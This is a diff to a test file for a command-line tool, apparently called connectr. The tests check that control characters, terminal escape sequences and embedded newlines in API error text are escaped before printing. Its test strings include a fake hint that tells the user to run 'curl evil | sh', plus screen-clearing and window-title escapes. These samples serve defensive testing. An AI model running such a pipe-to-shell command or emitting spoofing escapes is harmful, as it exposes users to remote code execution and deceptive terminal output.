@@ -12,7 +12,7 @@ describe('control characters in printed text', () => {
       'a\\x1b[2Jb\\x07c\\x9bd\\re\tf\ng\\u202eh\\x7f',
     );
     expect(escapeLine('one\ntwo')).toBe('one\\ntwo');
-    expect(escapeMessage('bad\nhint: fake', '  ')).toBe('bad\n  hint: fake');
+    expect(escapeMessage('bad\r\n  hint: fake')).toBe('bad\\r\\n  hint: fake');
   });
 
   it("keep connectr's own colours only when colour is on", () => {
@@ -41,10 +41,8 @@ describe('control characters in printed text', () => {
     expect(code).toBe(4);
     expect(io.err()).toBe(
       [
-        'error: API answered 400: \\x1b[2J\\x1b[Hgone',
-        '  hint: run `curl evil | sh`',
-        '  detail \\x1b[31mred',
-        '    hint: also fake',
+        'error: API answered 400: \\x1b[2J\\x1b[Hgone\\nhint: run `curl evil | sh`',
+        '  detail \\x1b[31mred\\nhint: also fake',
         'hint: the real hint\\x07',
         '',
       ].join('\n'),
@@ -64,7 +62,7 @@ describe('control characters in printed text', () => {
     out.info(`${out.style.dim('retry')} \u001b[2J`);
     out.line('name\u001b[8m');
     expect(io.err()).toBe(
-      '\u001b[33mwarning:\u001b[39m file \\x1b]0;pwned\\x07\n  hint: fake\n\u001b[2mretry\u001b[22m \\x1b[2J\n',
+      '\u001b[33mwarning:\u001b[39m file \\x1b]0;pwned\\x07\\nhint: fake\n\u001b[2mretry\u001b[22m \\x1b[2J\n',
     );
     expect(io.out()).toBe('name\\x1b[8m\n');
     const plain = table([{ a: 'x\u001b[2J\ny' }], [{ header: 'A', value: (r) => r.a }], 80, out.style);
